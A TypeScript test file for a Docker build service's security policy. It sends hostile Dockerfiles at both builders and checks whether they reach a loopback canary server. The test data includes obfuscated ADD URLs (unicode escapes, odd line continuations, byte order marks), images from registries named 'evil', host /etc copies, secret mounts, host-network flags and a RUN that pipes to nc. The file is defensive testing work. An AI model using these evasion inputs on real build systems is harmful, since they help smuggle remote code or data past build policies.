// Hostile Dockerfiles on a real engine, with both builders. With the policy that docs/security.md recommends, none reaches
// a server on this machine's loopback. Without that policy, some do.

import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { tarOf } from '../helpers/archives.ts'
import { endOf, imageNames, sendBuild } from '../helpers/builds.ts'
import { docker, ignoreMissing, IMAGE } from '../helpers/engine.ts'
import { makeFolder } from '../helpers/folder.ts'
import { portsOf, startServer } from '../helpers/server.ts'

const hits: string[] = []
const canary = createServer((request, answer) => {
  hits.push(`${request.method} ${request.url}`)
  answer.end('caught')
})
await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve))
const { port } = canary.address() as AddressInfo
const HOST = `127.0.0.1:${port}`
const BUILDERS = ['buildkit', 'classic'] as const
const name = imageNames(t)

const folder = makeFolder('policy')
t.teardown(() => {
  canary.closeAllConnections()
  canary.close()
  rmSync(folder, { recursive: true })
})
const policyFile = join(folder, 'policy.json')
writeFileSync(policyFile, JSON.stringify({ images: ['berth-test/**', 'docker/dockerfile'], remote_sources: false }))
const strict = await startServer(t, {
  ports: portsOf('buildsHostile'),
  env: { BERTH_POLICY_FILE: policyFile, BERTH_BUILD_NETWORK: 'none' }
})
const open = await startServer(t, { ports: portsOf('buildsHostile') })

/** An image whose trigger runs in every build on it. */
async function baseWith(trigger: string): Promise<string> {
  const base = `berth-test/base-${process.pid}-${Math.random().toString(36).slice(2)}:1`
  const stream = await docker.buildImage(
    (await tarOf({ name: 'Dockerfile', content: `FROM ${IMAGE}\nONBUILD ${trigger}\n` })) as never,
    { t: base }
  )
  await new Promise((resolve) => stream.on('end', resolve).resume())
  t.teardown(() => ignoreMissing(docker.getImage(base).remove({ force: true })))
  return base
}

const url = (path: string) => `http://${HOST}/${path}`
const after = (lines: string) => `FROM ${IMAGE}\n${lines}\n`
type Outcome = RegExp | 'completed' | 'failed' | 'either'
type Case = [name: string, dockerfile: string, outcome: Outcome, fields?: Record<string, string>]

const ADDRESS = /which is or may become an address/
const IMAGES = /is not among those that the policy allows/
const NO_DOCKERFILE = /is no Dockerfile/
const thousandStages = Array.from({ length: 1_000 }, (_none, index) => `FROM ${IMAGE} AS s${index}`).join('\n')

const CASES: Case[] = [
  ['ADD', after(`ADD ${url('add')} /x`), ADDRESS],
  ['small letters and tabs', after(`add\t${url('small')}\t/x`), ADDRESS],
  ['an argument', after(`ARG H=${HOST}\nADD http://$H/arg /x`), ADDRESS],
  ['an argument of the request', after('ARG X\nADD $X /x'), ADDRESS, { build_arg: `X=${url('given')}` }],
  ['a variable of the image', after(`ENV X=${url('env')}\nADD $X /x`), ADDRESS],
  ['a default inside', after(`ADD \${NOPE:-${url('default')}} /x`), ADDRESS],
  ['a list', after(`ADD ["${url('list')}", "/x"]`), ADDRESS],
  ['a list with escapes', after(String.raw`ADD ["\u0068ttp\u003a//${HOST}/escaped","/x"]`), ADDRESS],
  ['quotes', after(`ADD "http"://${HOST}/quotes /x`), ADDRESS],
  ['backslashes', after(String.raw`ADD h\ttp:\/\/${HOST}/back /x`), ADDRESS],
  ['over two lines', after(`ADD http:\\\n//${HOST}/lines /x`), ADDRESS],
  [
    'over two lines, with a comment and lines of Windows',
    after(`ADD http:\\\r\n# why\r\n//${HOST}/crlf /x\r`),
    ADDRESS
  ],
  ['with another escape', `# escape=\`\n${after(`ADD http:\`\n//${HOST}/escape /x`)}`, ADDRESS],
  ['with another escape, too late', after(`# escape=\`\nRUN true \`\nADD ${url('late')} /x`), ADDRESS],
  ['after a doubled backslash', after(`RUN true \\\\\nADD ${url('doubled')} /x`), ADDRESS],
  ['after a space that is none', after(`RUN true \\\u00A0\nADD ${url('space')} /x`), ADDRESS],
  ['after a mark that is no empty line', after(`RUN true \\\n\uFEFF\nADD ${url('mark')} /x`), ADDRESS],
  ['behind a byte order mark', `\uFEFF${after(`ADD ${url('bom')} /x`)}`, ADDRESS],
  ['in a heredoc that is none', after(`RUN cat <<CMD\nADD ${url('heredoc')} /x\nCMD`), ADDRESS],
  ['a trigger for others', after(`ONBUILD ADD ${url('onbuild')} /x`), ADDRESS],
  ['git', after(`ADD git://${HOST}/a.git /x`), ADDRESS],
  ['git by ssh', after(`ADD git@127.0.0.1:a.git /x`), ADDRESS],
  ['FROM an address', `FROM ${url('from')}`, IMAGES],
  ['FROM a registry', `FROM ${HOST}/evil:1`, IMAGES],
  ['FROM an argument', `ARG B=${IMAGE}\nFROM $B`, IMAGES, { build_arg: `B=${HOST}/evil:1` }],
  ['COPY from an image', after(`COPY --from=${HOST}/evil:1 / /x`), IMAGES],
  ['COPY from a folder of the host', after('COPY --from=/etc /hostname /x'), IMAGES],
  ['a mount', after(`RUN --mount=type=bind,from=${HOST}/evil:1,target=/x true`), IMAGES],
  ['a mount in quotes', after(`RUN --mount=type=bind,"FROM=${HOST}/evil:1",target=/x true`), IMAGES],
  ['a reader of its own', `# syntax=${HOST}/evil:1\n${after('RUN true')}`, IMAGES],
  ['an allowed image as a reader', `# syntax=${IMAGE}\n${after('RUN true')}`, /is to be read by/],
  ['a reader by an argument', after('RUN true'), /is to be read by/, { build_arg: `BUILDKIT_SYNTAX=${IMAGE}` }],
  ['another platform', after('RUN true'), /platform is not allowed here/, { platform: 'linux/arm64' }],
  ['zeros', `FROM ${IMAGE}\nRUN true\0\nADD ${url('zero')} /x`, /no text/],
  ['what looks like a comment', `FROM ${IMAGE}\n//syntax=${HOST}/evil:1\n`, NO_DOCKERFILE],
  ['COPY of an address', after(`COPY ${url('copy')} /x`), 'failed'],
  ['COPY from above', after('COPY ../../../etc/hostname /x'), 'failed'],
  ['more rights', after('RUN --security=insecure true'), /not available to builds/],
  [
    'the network of the host',
    after(`RUN --network=host echo GET /host | nc -w 1 127.0.0.1 ${port}`),
    /not available to builds/
  ],
  ['ssh of the client', after('RUN --mount=type=ssh true'), 'failed'],
  ['a secret of the client', after('RUN --mount=type=secret,id=x cat /run/secrets/x'), 'failed'],
  ['a line that never ends', after(`RUN true ${'x'.repeat(500_000)}`), /larger than 128 KiB/],
  ['a very long line', after(`RUN true ${'x'.repeat(100_000)}`), 'either'],
  ['a thousand stages', `${thousandStages}\n`, 'either'],
  ['RUN', after(`RUN echo GET /run | nc -w 1 127.0.0.1 ${port} && echo reached || echo not reached`), 'completed']
]

t.test('hostile builds are refused with a reason, or reach no server', async (t) => {
  for (const [why, dockerfile, outcome, fields] of CASES) {
    for (const builder of outcome instanceof RegExp ? BUILDERS.slice(0, 1) : BUILDERS) {
      const file = why === 'zeros' ? await tarOf({ name: 'Dockerfile', content: dockerfile }) : dockerfile
      const sent = typeof file === 'string' ? file : new Uint8Array(file)
      const answer = await sendBuild(strict, sent, {
        image_name: name('hostile'),
        no_cache: 'true',
        builder,
        ...fields
      })
      if (outcome instanceof RegExp) {
        t.ok(answer.status === 400 || answer.status === 403, `${why}: ${answer.status}`)
        t.match(answer.body.detail, outcome, why)
        continue
      }
      t.equal(answer.status, 202, `${why}: ${JSON.stringify(answer.body)}`)
      const build = await endOf(strict, answer.body.id)
      t.comment(`${why}, ${builder}: ${build.status} ${build.build.reason?.slice(0, 120) ?? ''}`)
      if (outcome !== 'either') t.equal(build.status, outcome, why)
      t.match((await strict.get(`/builds/${build.id}/logs`)).text, outcome === 'completed' ? /not reached$/m : /./)
    }
    t.same(hits, [], `${why}: the server was not reached`)
  }
})

t.test('triggers of a base image', async (t) => {
  const harmless = await baseWith('RUN true')
  const evil = await baseWith(`ADD ${url('trigger')} /x`)
  for (const builder of BUILDERS) {
    const send = async (base: string) => {
      const { body } = await sendBuild(strict, `FROM ${base}\n`, {
        image_name: name('triggered'),
        no_cache: 'true',
        builder
      })
      return endOf(strict, body.id)
    }
    t.match(await send(harmless), { status: 'completed' })
    t.match(await send(evil), {
      status: 'failed',
      build: { code: 'POLICY_REFUSED', retryable: false, reason: /has triggers \(ONBUILD\) with sources/ }
    })
  }
  t.same(hits, [])
})

t.test('these reach it without the policy, intentionally', async (t) => {
  const trigger = await baseWith(`ADD ${url('trigger')} /x`)
  const cases: [why: string, dockerfile: string, hit: RegExp][] = [
    ['ADD', after(`ADD ${url('add')} /x`), /^GET \/add$/],
    ['an argument', after(`ARG X=${url('arg')}\nADD $X /x`), /^GET \/arg$/],
    ['over two lines', after(`ADD http:\\\n//${HOST}/lines /x`), /^GET \/lines$/],
    ['a list with escapes', after(String.raw`ADD ["\u0068ttp\u003a//${HOST}/escaped","/x"]`), /^GET \/escaped$/],
    ['after a space that is none', after(`RUN true \\\u00A0\nADD ${url('space')} /x`), /^GET \/space$/],
    ['after a mark that is no empty line', after(`RUN true \\\n\uFEFF\nADD ${url('mark')} /x`), /^GET \/mark$/],
    ['a trigger', `FROM ${trigger}\n`, /^GET \/trigger$/],
    ['FROM a registry', `FROM ${HOST}/evil:1`, /\/v2\//]
  ]
  for (const [why, dockerfile, hit] of cases)
    for (const builder of BUILDERS) {
      hits.length = 0
      const fields = { image_name: name('open'), no_cache: 'true', builder }
      const { status, body } = await sendBuild(open, dockerfile, fields)
      t.equal(status, 202, `${why}: ${JSON.stringify(body)}`)
      const { build } = await endOf(open, body.id)
      t.ok(
        hits.some((seen) => hit.test(seen)),
        `${why}, ${builder}: ${hits.join()} ${build.reason}`
      )
    }
})

t.test('nothing is left running', async (t) => {
  const containers = await docker.listContainers({ all: true })
  t.same(
    containers.filter(({ Command }) => Command.includes(String(port))).map(({ Command }) => Command),
    []
  )
  for (const server of [strict, open]) t.notMatch(server.output(), /"level":(50|60)/)
})
